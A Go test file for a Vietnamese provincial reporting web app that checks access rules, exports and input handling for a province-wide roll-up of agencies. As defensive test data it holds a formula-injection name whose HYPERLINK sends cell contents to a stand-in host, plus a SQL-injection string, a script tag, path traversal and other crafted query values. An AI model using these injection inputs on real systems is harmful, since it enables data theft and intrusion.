package report_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"cchc/internal/admin"
	"cchc/internal/agency"
	"cchc/internal/auth"
	"cchc/internal/docx"
	"cchc/internal/report"
	"cchc/internal/store"
)

// addAgencies adds two agencies to the demo (Sở Tư pháp under a prefix,
// Sở Y tế under a host) through the store, as the agencies screen does.
func addAgencies(t *testing.T, s *site) (int64, int64) {
	t.Helper()
	ctx := context.Background()
	a2, err := s.env.Store.CreateAgency(ctx, agency.Agency{Slug: "so-tu-phap", Name: "Sở Tư pháp tỉnh Quảng Ngãi", ShortName: "Sở Tư pháp", Prefix: "/so-tu-phap"},
		store.AuditEntry{At: later, Actor: "cli"})
	if err != nil {
		t.Fatal(err)
	}
	a3, err := s.env.Store.CreateAgency(ctx, agency.Agency{Slug: "so-y-te", Name: "Sở Y tế tỉnh Quảng Ngãi", ShortName: "Sở Y tế", Prefix: "/so-y-te"},
		store.AuditEntry{At: later, Actor: "cli"})
	if err != nil {
		t.Fatal(err)
	}
	return a2, a3
}

// TestProvinceAccess: the root agency's admins read the roll-up, its
// exports and its print; every other role of the workspace gets 403, a
// stranger the login page. The province role is admitted by
// CanSeeProvince (accounts cannot hold it until h20-accounts merges).
func TestProvinceAccess(t *testing.T) {
	s := newSite(t)
	addAgencies(t, s)
	paths := []string{"/bao-cao/tinh?nam=2022", "/bao-cao/tinh/in?nam=2022", "/bao-cao/tinh/2022.csv", "/bao-cao/tinh/2022.xlsx", "/bao-cao/tinh/2022.docx"}
	for _, p := range paths {
		// A page sends the browser to the login page; a file is 401.
		if got := s.do("GET", p, nil); !(got.code == 302 && strings.HasPrefix(got.loc, "/quan-tri/dang-nhap?next=")) && got.code != 401 {
			t.Errorf("stranger %s: %d %q, want the login page", p, got.code, got.loc)
		}
	}
	for _, r := range auth.Roles {
		c, _ := s.login(r)
		// The dashboard links to the roll-up only for those who may read it.
		if dash := s.do("GET", "/bao-cao/?nam=2022", nil, c); strings.Contains(dash.body, `href="/bao-cao/tinh?nam=2022"`) != (r == auth.Admin) {
			t.Errorf("%s: the dashboard's link to the roll-up is wrong", r)
		}
		for _, p := range paths {
			got := s.do("GET", p, nil, c)
			want := 403
			if r == auth.Admin {
				want = 200
			}
			if got.code != want {
				t.Errorf("%s %s: %d, want %d\n%.400s", r, p, got.code, want, got.body)
			}
		}
	}
	for _, tc := range []struct {
		u    store.User
		want bool
	}{
		{store.User{Role: auth.Province, AgencyID: 2}, true},
		{store.User{Role: auth.Province}, true},
		{store.User{Role: auth.Admin}, true},
		{store.User{Role: auth.Admin, AgencyID: agency.Root}, true},
		{store.User{Role: auth.Admin, AgencyID: 2}, false},
		{store.User{Role: auth.Approver, AgencyID: agency.Root}, false},
		{store.User{Role: auth.Viewer}, false},
	} {
		if got := report.CanSeeProvince(&tc.u); got != tc.want {
			t.Errorf("CanSeeProvince(%s of %d) = %v, want %v", tc.u.Role, tc.u.AgencyID, got, tc.want)
		}
		// The workspace's menu shows the roll-up to the same accounts.
		if got := (admin.Layout{User: &tc.u}).SeesRollup(); got != tc.want {
			t.Errorf("Layout.SeesRollup(%s of %d) = %v, want %v", tc.u.Role, tc.u.AgencyID, got, tc.want)
		}
	}
	if report.CanSeeProvince(nil) || (admin.Layout{}).SeesRollup() {
		t.Error("a stranger sees the roll-up")
	}
}

// TestProvincePage: one row per agency of the instance, in name order,
// with the exports carrying the same rows.
func TestProvincePage(t *testing.T) {
	s := newSite(t)
	addAgencies(t, s)
	c, _ := s.login(auth.Admin)
	got := s.do("GET", "/bao-cao/tinh?nam=2022", nil, c)
	if got.code != 200 {
		t.Fatalf("%d\n%s", got.code, got.body)
	}
	order := []string{`id="co-quan-so-khcn"`, `id="co-quan-so-tu-phap"`, `id="co-quan-so-y-te"`}
	last := -1
	for _, id := range order {
		i := strings.Index(got.body, id)
		if i < last {
			t.Errorf("%s out of order (or missing)", id)
		}
		last = i
	}
	csvBody := s.do("GET", "/bao-cao/tinh/2022.csv", nil, c)
	recs, err := csvRecords(csvBody.body)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, r := range recs {
		if len(r) > 2 && (r[0] == "1" || r[0] == "2" || r[0] == "3") && strings.HasPrefix(r[1], "Sở ") {
			names = append(names, r[1])
		}
	}
	if strings.Join(names, "|") != "Sở Khoa học và Công nghệ tỉnh Quảng Ngãi|Sở Tư pháp tỉnh Quảng Ngãi|Sở Y tế tỉnh Quảng Ngãi" {
		t.Errorf("CSV rows: %q", names)
	}
	x := s.do("GET", "/bao-cao/tinh/2022.xlsx", nil, c)
	f, err := excelize.OpenReader(bytes.NewReader([]byte(x.body)))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows("Tổng hợp")
	if err != nil || len(rows) < 10 {
		t.Fatalf("xlsx rows: %d %v", len(rows), err)
	}
}

func csvRecords(body string) ([][]string, error) {
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	r.FieldsPerRecord = -1
	return r.ReadAll()
}

// TestProvincePrint: /bao-cao/tinh/in is the province's summary in the
// document form of the other prints — the letterhead, the summary with
// one row per agency, the notes on the figures, the signature — then an
// appendix per agency with its items and statuses; the Word document has
// the same parts in the same order.
func TestProvincePrint(t *testing.T) {
	s := newSite(t)
	addAgencies(t, s)
	c, _ := s.login(auth.Admin)
	got := s.do("GET", "/bao-cao/tinh/in?nam=2022&den=2022-11-20", nil, c)
	if got.code != 200 {
		t.Fatalf("%d\n%s", got.code, got.body)
	}
	inOrder(t, got.body, "ỦY BAN NHÂN DÂN TỈNH QUẢNG NGÃI", "SỞ KHOA HỌC VÀ CÔNG NGHỆ<",
		"CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Số:", "/BC", "Quảng Ngãi, ngày 20 tháng 11 năm 2022",
		"BÁO CÁO", "Tổng hợp kết quả công tác tuyên truyền cải cách hành chính trên chuyên mục của các cơ quan năm 2022",
		"Kính gửi: Ủy ban nhân dân tỉnh Quảng Ngãi.", "năm 2022 của 3 cơ quan, số liệu tính đến ngày 20/11/2022",
		"I. KẾT QUẢ CỦA CÁC CƠ QUAN", "<td>1</td><td class=\"text\">Sở Khoa học và Công nghệ tỉnh Quảng Ngãi</td><td>272/KH-SKHCN</td>",
		"Hoàn thành: 3; Chưa hoàn thành: 1; Đang thực hiện: 2; Chưa đánh giá được: 0", "tháng 11: 1 (cả năm: 53)",
		"Chưa gửi; 15/11/2022 (báo cáo tổng hợp) (Trễ hạn)",
		"<td>2</td><td class=\"text\">Sở Tư pháp tỉnh Quảng Ngãi</td>", "<td>3</td><td class=\"text\">Sở Y tế tỉnh Quảng Ngãi</td>",
		"Số liệu tính đến ngày 20/11/2022, lấy từ nhật ký đăng tải", "Hạn báo cáo: hạn gửi báo cáo tổng hợp nêu tại mục V",
		"Nơi nhận:", "<p>- Như trên;</p>", "<p>- Lưu: VT.</p>", "NGƯỜI LẬP BÁO CÁO",
		"Phụ lục 1: Sở Khoa học và Công nghệ tỉnh Quảng Ngãi", "(Kế hoạch: 272/KH-SKHCN; tính đến ngày 20/11/2022)", "III.1", "III.6",
		"Phụ lục 2: Sở Tư pháp tỉnh Quảng Ngãi", "Phụ lục 3: Sở Y tế tỉnh Quảng Ngãi")
	if strings.Contains(got.body, "- - ") || strings.Contains(got.body, "<script") {
		t.Error("the print has a doubled dash or a script")
	}
	// The filter carries into the print: only the agencies shown.
	if got := s.do("GET", "/bao-cao/tinh/in?nam=2022&den=2022-11-01&loc=tre-han", nil, c); got.code != 200 || strings.Contains(got.body, "Phụ lục 1") ||
		!strings.Contains(got.body, "năm 2022 của 0 cơ quan") {
		t.Errorf("late agencies before the deadline: %d", got.code)
	}

	d := s.do("GET", "/bao-cao/tinh/2022.docx?den=2022-11-20", nil, c)
	if d.code != 200 || d.res.Header.Get("Content-Disposition") != `attachment; filename="bao-cao-tinh-2022.docx"` {
		t.Fatalf("docx: %d %v", d.code, d.res.Header)
	}
	doc, err := docx.Read(strings.NewReader(d.body), int64(len(d.body)))
	if err != nil {
		t.Fatal(err)
	}
	inOrder(t, doc.Markdown(), "ỦY BAN NHÂN DÂN TỈNH QUẢNG NGÃI", "SỞ KHOA HỌC VÀ CÔNG NGHỆ**", "Quảng Ngãi, ngày 20 tháng 11 năm 2022",
		"BÁO CÁO", "Kính gửi: Ủy ban nhân dân tỉnh Quảng Ngãi.", "I. KẾT QUẢ CỦA CÁC CƠ QUAN",
		"| 1 | Sở Khoa học và Công nghệ tỉnh Quảng Ngãi | 272/KH-SKHCN | Hoàn thành: 3;", "Chưa gửi; 15/11/2022 (báo cáo tổng hợp) (Trễ hạn) |",
		"| 3 | Sở Y tế tỉnh Quảng Ngãi |", "Số liệu tính đến ngày 20/11/2022", "Nơi nhận:", "- Như trên;", "NGƯỜI LẬP BÁO CÁO",
		"Phụ lục 1: Sở Khoa học và Công nghệ tỉnh Quảng Ngãi", "| III.1 |", "| III.6 |", "Phụ lục 3: Sở Y tế tỉnh Quảng Ngãi", "Chưa có kế hoạch năm 2022")
}

// TestProvinceRefusals: what the address cannot mean is a 400 saying why
// (or a 404 for a file that is not one of the exports), never a 500.
func TestProvinceRefusals(t *testing.T) {
	s := newSite(t)
	c, _ := s.login(auth.Admin)
	for _, tc := range []struct {
		path string
		code int
		want string
	}{
		{"/bao-cao/tinh?nam=2022&sap-xep=ten%27%3E", 400, "Cách sắp xếp không hợp lệ"},
		{"/bao-cao/tinh?nam=2022&loc=%3Cscript%3E", 400, "Bộ lọc không hợp lệ"},
		{"/bao-cao/tinh?nam=hai", 400, "Năm báo cáo không hợp lệ"},
		{"/bao-cao/tinh?nam=2022&den=2027-01-01", 400, "chưa đến"},
		{"/bao-cao/tinh?nam=2022&den=2021-12-31", 400, "ở trước năm báo cáo 2022"},
		{"/bao-cao/tinh/in?nam=2022&loc=x", 400, "Bộ lọc không hợp lệ"},
		{"/bao-cao/tinh/2022.csv?sap-xep=x", 400, "Cách sắp xếp không hợp lệ"},
		{"/bao-cao/tinh/2022.pdf", 404, ""},
		{"/bao-cao/tinh/0999.csv", 400, "Năm báo cáo không hợp lệ"},
		{"/bao-cao/tinh/..%2f2022.csv", 404, ""},
	} {
		got := s.do("GET", tc.path, nil, c)
		if got.code != tc.code || !strings.Contains(got.body, tc.want) {
			t.Errorf("%s: %d, want %d %q\n%.300s", tc.path, got.code, tc.code, tc.want, got.body)
		}
	}
}

// TestProvinceHostileName: an agency named like a spreadsheet formula is
// text in the CSV and the workbook, and escaped on the page.
func TestProvinceHostileName(t *testing.T) {
	s := newSite(t)
	name := `=HYPERLINK("http://example.invalid/?"&A1,"<b>Sở</b>")`
	if _, err := s.env.Store.CreateAgency(context.Background(), agency.Agency{Slug: "so-gia", Name: name, ShortName: "Sở giả", Prefix: "/so-gia"},
		store.AuditEntry{At: later, Actor: "cli"}); err != nil {
		t.Fatal(err)
	}
	c, _ := s.login(auth.Admin)
	page := s.do("GET", "/bao-cao/tinh?nam=2022", nil, c)
	if page.code != 200 || strings.Contains(page.body, "<b>Sở</b>") || !strings.Contains(page.body, "&lt;b&gt;Sở&lt;/b&gt;") {
		t.Errorf("page: %d", page.code)
	}
	recs, err := csvRecords(s.do("GET", "/bao-cao/tinh/2022.csv", nil, c).body)
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, r := range recs {
		for _, cell := range r {
			if strings.Contains(cell, "HYPERLINK") {
				found++
				if !strings.HasPrefix(cell, "'=") && !strings.HasPrefix(cell, "Phụ lục") {
					t.Errorf("CSV cell %q is a formula", cell)
				}
			}
		}
	}
	x := s.do("GET", "/bao-cao/tinh/2022.xlsx", nil, c)
	f, err := excelize.OpenReader(strings.NewReader(x.body))
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := f.GetRows("Tổng hợp")
	for i, r := range rows {
		for j, cell := range r {
			if strings.Contains(cell, "HYPERLINK") {
				found++
				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, _ := f.GetCellFormula("Tổng hợp", ref); formula != "" || (!strings.HasPrefix(cell, "'=") && !strings.HasPrefix(cell, "Phụ lục")) {
					t.Errorf("XLSX %s %q formula %q", ref, cell, formula)
				}
			}
		}
	}
	if found < 4 {
		t.Errorf("the name is in %d cells, want the summary and the appendix of both files", found)
	}
}

// TestProvinceBurst: 60 requests at once for the roll-up, its CSV and its
// print — the province's staff and root admins reloading together — all
// answer 200 with the same rows, none a 500; and 60 with forged sort and
// filter values are all 400. The bound (2 minutes) is for a slow shared
// machine: on two cores the burst takes a few seconds.
func TestProvinceBurst(t *testing.T) {
	s := newSite(t)
	addAgencies(t, s)
	c, _ := s.login(auth.Admin)
	paths := []string{"/bao-cao/tinh?nam=2022", "/bao-cao/tinh/2022.csv", "/bao-cao/tinh/in?nam=2022&sap-xep=ngay-gui"}
	bad := []string{"/bao-cao/tinh?nam=2022&sap-xep=%00", "/bao-cao/tinh?nam=2022&loc=' OR 1=1 --", "/bao-cao/tinh/2022.xlsx?loc=%E2%80%AE"}
	start := time.Now()
	var wg sync.WaitGroup
	codes := make([]int, 120)
	for i := range codes {
		wg.Add(1)
		go func() {
			defer wg.Done()
			p := paths[i%3]
			if i >= 60 {
				p = bad[i%3]
			}
			req := httptest.NewRequest("GET", strings.ReplaceAll(p, " ", "%20"), nil)
			req.AddCookie(c)
			w := httptest.NewRecorder()
			s.h.ServeHTTP(w, req)
			codes[i] = w.Code
		}()
	}
	wg.Wait()
	took := time.Since(start)
	t.Logf("120 requests at once (60 roll-ups of 3 agencies, 60 refused): %v", took)
	for i, code := range codes {
		if want := map[bool]int{true: 200, false: 400}[i < 60]; code != want {
			t.Errorf("request %d: %d, want %d", i, code, want)
		}
	}
	if took > 2*time.Minute {
		t.Errorf("the burst took %v", took)
	}

	// Twenty agencies: one roll-up measures each in turn.
	for i := 4; i <= 20; i++ {
		slug := fmt.Sprintf("co-quan-%d", i)
		if _, err := s.env.Store.CreateAgency(context.Background(), agency.Agency{Slug: slug, Name: fmt.Sprintf("Cơ quan số %d", i), ShortName: slug, Prefix: "/" + slug},
			store.AuditEntry{At: later, Actor: "cli"}); err != nil {
			t.Fatal(err)
		}
	}
	start = time.Now()
	got := s.do("GET", "/bao-cao/tinh?nam=2022", nil, c)
	took = time.Since(start)
	t.Logf("one roll-up of 20 agencies: %v, %d bytes", took, len(got.body))
	if got.code != 200 || strings.Count(got.body, `<tr id="co-quan-`) != 20 || took > time.Minute {
		t.Errorf("20 agencies: %d, %d rows, %v", got.code, strings.Count(got.body, `<tr id="co-quan-`), took)
	}
}
